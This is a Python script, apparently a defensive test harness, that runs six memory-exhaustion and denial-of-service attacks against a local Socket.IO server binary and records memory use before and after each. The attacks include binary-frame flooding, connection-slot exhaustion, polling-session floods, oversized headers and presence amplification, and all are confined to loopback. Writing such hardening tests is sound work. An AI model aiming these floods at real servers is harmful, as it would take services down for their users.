#!/usr/bin/env python3
"""RSS of the /iss server under the six attacks of the "Hardening II" round.

For each attack: start the given server binary on a free loopback port, read
its VmRSS, run the attack, read VmRSS again (connections still held) and the
peak (VmHWM), stop the server (SIGTERM, SIGKILL after 5 s) and print one
markdown table row.

    python3 tools/attack/rss.py --server /tmp/iss-bin/server-before --label before
    python3 tools/attack/rss.py --server /tmp/iss-bin/server-after --label after --only 3

Python 3 standard library only; loopback only; every loop is bounded.
"""

import argparse
import base64
import json
import os
import random
import select
import signal
import socket
import string
import struct
import subprocess
import sys
import tempfile
import threading
import time

WS_PATH = "/socket.io/?EIO=4&transport=websocket"
POLL_PATH = "/socket.io/?EIO=4&transport=polling"


# ---------------------------------------------------------------- server ---

class Server:
    """The server process on a free loopback port."""

    def __init__(self, binary, flags):
        probe = socket.socket()
        probe.bind(("127.0.0.1", 0))
        self.port = probe.getsockname()[1]
        probe.close()
        self.log = tempfile.NamedTemporaryFile(prefix="iss-attack-", suffix=".log", delete=False)
        argv = [binary, "--bind", f"127.0.0.1:{self.port}", "--log", "warn",
                "--dist", "/nonexistent", *flags]
        self.proc = subprocess.Popen(argv, stdout=self.log, stderr=subprocess.STDOUT)
        for _ in range(100):  # up to 10 s to answer /healthz
            if self.proc.poll() is not None:
                break
            try:
                if http_get(self.port, "/healthz")[0] == 200:
                    return
            except OSError:
                pass
            time.sleep(0.1)
        self.stop(keep_log=True)
        sys.exit(f"server did not start: {' '.join(argv)} (log: {self.log.name})")

    def status(self, key):
        """A /proc/PID/status figure in KiB (VmRSS, VmHWM)."""
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith(key + ":"):
                    return int(line.split()[1])
        return 0

    def rss(self):
        return self.status("VmRSS")

    def stop(self, keep_log=False):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(5)
        self.log.close()
        if not keep_log:
            os.unlink(self.log.name)


# ------------------------------------------------------------------ http ---

def connect(port, timeout=10):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def request(port, path, extra=""):
    return (f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{extra}\r\n").encode()


class Reader:
    """Buffered reads from a socket; EOFError when the peer closed."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""

    def fill(self):
        data = self.sock.recv(65536)
        if not data:
            raise EOFError
        self.buf += data

    def exactly(self, n):
        while len(self.buf) < n:
            self.fill()
        out, self.buf = self.buf[:n], self.buf[n:]
        return out

    def line(self):
        while b"\r\n" not in self.buf:
            self.fill()
        out, self.buf = self.buf.split(b"\r\n", 1)
        return out


def read_response(reader):
    """One HTTP/1.1 response: (status, headers dict, body)."""
    status = int(reader.line().split()[1])
    headers = {}
    while line := reader.line():
        k, _, v = line.decode("latin-1").partition(":")
        headers[k.strip().lower()] = v.strip()
    if headers.get("transfer-encoding", "").lower() == "chunked":
        body = b""
        while size := int(reader.line().split(b";")[0], 16):
            body += reader.exactly(size)
            reader.line()
        reader.line()
    else:
        body = reader.exactly(int(headers.get("content-length", "0")))
    return status, headers, body


def http_get(port, path):
    with connect(port, timeout=5) as s:
        s.sendall(request(port, path, "Connection: close\r\n"))
        status, _, body = read_response(Reader(s))
        return status, body


def is_closed(sock):
    """Did the peer close (or reset) this idle connection?"""
    try:
        ready, _, _ = select.select([sock], [], [], 0)
        return bool(ready) and sock.recv(1, socket.MSG_PEEK) == b""
    except OSError:
        return True


# ------------------------------------------------------------- websocket ---

class WebSocket:
    """A minimal client: masked frames out, unfragmented frames in, and
    Engine.IO pings ("2") answered with pongs ("3") on the way."""

    def __init__(self, port):
        self.sock = connect(port)
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall(request(port, WS_PATH,
                                  "Upgrade: websocket\r\nConnection: Upgrade\r\n"
                                  f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"))
        self.reader = Reader(self.sock)
        status = int(self.reader.line().split()[1])
        while self.reader.line():
            pass
        if status != 101:
            raise ConnectionError(f"upgrade refused: {status}")
        self.lock = threading.Lock()
        self.recv_text()  # the Engine.IO open packet 0{"sid":...}

    def send(self, payload, opcode=0x1):
        if isinstance(payload, str):
            payload = payload.encode()
        n = len(payload)
        head = bytes([0x80 | opcode])
        if n < 126:
            head += bytes([0x80 | n])
        elif n < 65536:
            head += bytes([0x80 | 126]) + struct.pack(">H", n)
        else:
            head += bytes([0x80 | 127]) + struct.pack(">Q", n)
        mask = os.urandom(4)
        key = (mask * (n // 4 + 1))[:n]
        masked = (int.from_bytes(payload, "big") ^ int.from_bytes(key, "big")).to_bytes(n, "big")
        with self.lock:
            self.sock.sendall(head + mask + masked)

    def frame(self):
        """One frame: (opcode, payload)."""
        b0, b1 = self.reader.exactly(2)
        n = b1 & 0x7F
        if n == 126:
            n = struct.unpack(">H", self.reader.exactly(2))[0]
        elif n == 127:
            n = struct.unpack(">Q", self.reader.exactly(8))[0]
        return b0 & 0x0F, self.reader.exactly(n)

    def message(self):
        """One frame: the text of a message, or None for a ping (answered)
        or a binary frame; EOFError on close."""
        opcode, payload = self.frame()
        if opcode == 0x8:
            raise EOFError
        if opcode == 0x9:
            self.send(payload, 0xA)
        elif opcode == 0x1 and payload == b"2":
            self.send("3")
        elif opcode == 0x1:
            return payload.decode()
        return None

    def recv_text(self):
        """The next text message that is not a ping."""
        for _ in range(1_000_000):
            if (text := self.message()) is not None:
                return text
        raise RuntimeError("no text message")

    def join(self, retry=0.01):
        """Join /iss: send 40/iss, until the 40/iss,{"sid":...} reply. Right
        after a leave (41/iss,) socketioxide may still hold the old socket
        and silently ignore the join, so it is re-sent every `retry` s."""
        for _ in range(1000):
            self.send("40/iss,")
            deadline = time.monotonic() + retry
            while (left := deadline - time.monotonic()) > 0:
                text = self.poll(left)
                if text and text.startswith("40/iss,"):
                    return
        raise RuntimeError("no CONNECT reply")

    def poll(self, timeout):
        """The next frame's text (see `message`), or None if nothing came
        within `timeout` s."""
        if not self.reader.buf and not select.select([self.sock], [], [], max(0.0, timeout))[0]:
            return None
        return self.message()

    def idle(self, seconds):
        """Read (answer pings) until `seconds` pass; False if the server closed."""
        end = time.monotonic() + seconds
        try:
            while (left := end - time.monotonic()) > 0:
                self.poll(left)
            return True
        except (EOFError, OSError):
            return False

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def in_threads(n, target):
    """Runs target(i) for i in 0..n on threads; returns their results."""
    results = [None] * n

    def run(i):
        try:
            results[i] = target(i)
        except (OSError, EOFError, ConnectionError, RuntimeError) as err:
            results[i] = err

    threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    return results


def mib(kib):
    return f"{kib / 1024:.1f} MiB"


# --------------------------------------------------------------- attacks ---

def attack_binary(srv):
    """1. Binary attachments: 20 websockets join /iss, each sends a binary
    event announcing 9,999 attachments, then 620 binary frames of 16,000
    bytes (9.9 MB, under socketioxide's default 10 MB buffer), then only
    answers pings for 10 s. The old server buffers every frame, for ever."""
    socks = [WebSocket(srv.port) for _ in range(20)]
    for ws in socks:
        ws.join()
    chunk = os.urandom(16_000)

    def run(i):
        ws = socks[i]
        sent = 0
        try:
            ws.send('459999-/iss,["identify",{"_placeholder":true,"num":0}]')
            for _ in range(620):
                ws.send(chunk, 0x2)
                sent += 1
        except OSError:
            return sent, False
        return sent, ws.idle(10)

    results = in_threads(20, run)
    rss = srv.rss()
    for ws in socks:
        ws.close()
    ok = [r for r in results if isinstance(r, tuple)]
    closed = sum(1 for _, alive in ok if not alive) + (20 - len(ok))
    frames = sum(sent for sent, _ in ok)
    return rss, f"{closed}/20 connections closed by the server; {frames:,} binary frames written"


def attack_slots(srv):
    """2. Connection slots held by one client (--max-connections 50): 48
    connections each send one keep-alive GET /healthz, then idle 15 s. Then
    up to 3 more connections are opened and held, each asking /healthz:
    200 while slots are free, 503 once the 50 are taken."""
    held = []
    for _ in range(48):
        s = connect(srv.port)
        s.sendall(request(srv.port, "/healthz"))
        read_response(Reader(s))
        held.append(s)
    time.sleep(15)
    closed = sum(is_closed(s) for s in held)
    probes, codes = [], []
    for _ in range(3):
        try:
            s = connect(srv.port, timeout=5)
            probes.append(s)
            s.sendall(request(srv.port, "/healthz"))
            codes.append(str(read_response(Reader(s))[0]))
        except (OSError, EOFError):
            codes.append("reset")
    rss = srv.rss()
    for s in held + probes:
        s.close()
    return rss, f"{closed}/48 idle connections closed by the server after 15 s; new /healthz: {', '.join(codes)}"


def attack_polling(srv):
    """3. Polling sessions not counted (--max-connections 50): 4 keep-alive
    connections open polling handshakes in a loop (at most 5 s or 3,000
    sessions), then nothing for 10 s: a polling session lives until its
    ping timeout without being polled."""
    lock = threading.Lock()
    counts = {"200": 0, "503": 0, "other": 0, "reconnects": 0, "in flight": 0}
    end = time.monotonic() + 5

    def run(_):
        sock, reader = None, None
        while time.monotonic() < end:
            with lock:
                if counts["200"] + counts["in flight"] >= 3000:
                    break
                counts["in flight"] += 1
            try:
                if sock is None:
                    sock = connect(srv.port)
                    reader = Reader(sock)
                sock.sendall(request(srv.port, POLL_PATH))
                status, headers, _ = read_response(reader)
                key = str(status) if status in (200, 503) else "other"
                if headers.get("connection", "").lower() == "close":
                    sock.close()
                    sock = None
            except (OSError, EOFError):
                key = "reconnects"
                sock = None
            with lock:
                counts[key] += 1
                counts["in flight"] -= 1
        if sock:
            sock.close()

    started = time.monotonic()
    in_threads(4, run)
    elapsed = time.monotonic() - started
    time.sleep(10)
    return srv.rss(), (f"in {elapsed:.1f} s: {counts['200']:,} sessions opened (200), {counts['503']:,} refused (503), "
                       f"{counts['other']} other, {counts['reconnects']} dropped connections")


def attack_head(srv):
    """4. Request head retained: 100 polling handshakes, each with a
    300,000-byte X-Filler header. The old server keeps every opening
    request's headers inside its session (≈ 314 KiB each)."""
    filler = "x" * 300_000
    outcome = {}
    for _ in range(100):
        try:
            with connect(srv.port) as s:
                s.sendall(request(srv.port, POLL_PATH, f"X-Filler: {filler}\r\nConnection: close\r\n"))
                key = str(read_response(Reader(s))[0])
        except (OSError, EOFError):
            key = "reset"
        outcome[key] = outcome.get(key, 0) + 1
    return srv.rss(), "responses: " + ", ".join(f"{n}× {k}" for k, n in sorted(outcome.items()))


def attack_resume(srv):
    """5. Resume book unbounded: 30 websockets join /iss (40/iss,), wait for
    the reply, leave (41/iss,), as fast as they can for 20 s. Every leave
    puts a resumable session in the book (kept 600 s)."""
    socks = [WebSocket(srv.port) for _ in range(30)]
    end = time.monotonic() + 20

    def run(i):
        ws, cycles = socks[i], 0
        while time.monotonic() < end:
            ws.join()
            ws.send("41/iss,")
            cycles += 1
        return cycles

    started = time.monotonic()
    results = in_threads(30, run)
    elapsed = time.monotonic() - started
    rss = srv.rss()
    for ws in socks:
        ws.close()
    cycles = sum(r for r in results if isinstance(r, int))
    failed = sum(1 for r in results if not isinstance(r, int))
    return rss, f"{cycles:,} join/leave cycles ({cycles / elapsed:,.0f}/s), {failed} sockets failed"


def attack_presence(srv):
    """6. Presence amplification (default limits): one listener joins /iss
    and only reads; 100 websockets join and each identifies with a fresh
    random 32-character name 10 times a second for 15 s. Reported: the
    presence bytes per second the listener receives over the last 10 s."""
    listener = WebSocket(srv.port)
    listener.join()
    senders = [WebSocket(srv.port) for _ in range(100)]
    for ws in senders:
        ws.join()
    alphabet = string.ascii_lowercase + string.digits
    start = time.monotonic()
    end = start + 15

    def send(i):
        ws, sent = senders[i], 0
        next_at = start + random.random() * 0.1
        while (now := time.monotonic()) < end:
            if now >= next_at:
                name = "".join(random.choices(alphabet, k=32))
                ws.send("42/iss," + json.dumps(["identify", name]))
                sent += 1
                next_at += 0.1
            if not ws.idle(max(0.0, min(next_at, end) - time.monotonic())):
                break  # closed by the server
        return sent

    received = {"bytes": 0, "frames": 0}

    def listen():
        try:
            while (left := end - time.monotonic()) > 0:
                text = listener.poll(left)
                if text and text.startswith('42/iss,["presence"') and time.monotonic() >= start + 5:
                    received["bytes"] += len(text.encode())
                    received["frames"] += 1
        except (EOFError, OSError):
            received["closed"] = True

    reading = threading.Thread(target=listen, daemon=True)
    reading.start()
    results = in_threads(100, send)
    reading.join(30)
    rss = srv.rss()
    for ws in senders + [listener]:
        ws.close()
    sent = sum(r for r in results if isinstance(r, int))
    return rss, (f"listener got {received['bytes'] / 10 / 1024:,.1f} KiB/s of presence "
                 f"({received['frames']:,} frames in the last 10 s{', then closed' if 'closed' in received else ''}); "
                 f"{sent:,} identifies sent")


ATTACKS = [
    (attack_binary, "binary attachments", []),
    (attack_slots, "slots held by idle keep-alive", ["--max-connections", "50"]),
    (attack_polling, "polling sessions not counted", ["--max-connections", "50"]),
    (attack_head, "request head retained", []),
    (attack_resume, "resume book", []),
    (attack_presence, "presence amplification", []),
]


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--server", required=True, help="path to the server binary")
    parser.add_argument("--label", default="", help="a column label, e.g. before or after")
    parser.add_argument("--only", type=int, choices=range(1, len(ATTACKS) + 1), help="run only attack N")
    args = parser.parse_args()
    print("| # | attack | binary | RSS before | RSS after | peak (VmHWM) | outcome |")
    print("|---|---|---|---|---|---|---|")
    for number, (attack, title, flags) in enumerate(ATTACKS, 1):
        if args.only and number != args.only:
            continue
        srv = Server(args.server, flags)
        try:
            time.sleep(0.5)
            before = srv.rss()
            after, outcome = attack(srv)
            peak = srv.status("VmHWM")
        finally:
            srv.stop()
        print(f"| {number} | {title} | {args.label} | {mib(before)} | {mib(after)} | {mib(peak)} | {outcome} |",
              flush=True)


if __name__ == "__main__":
    main()
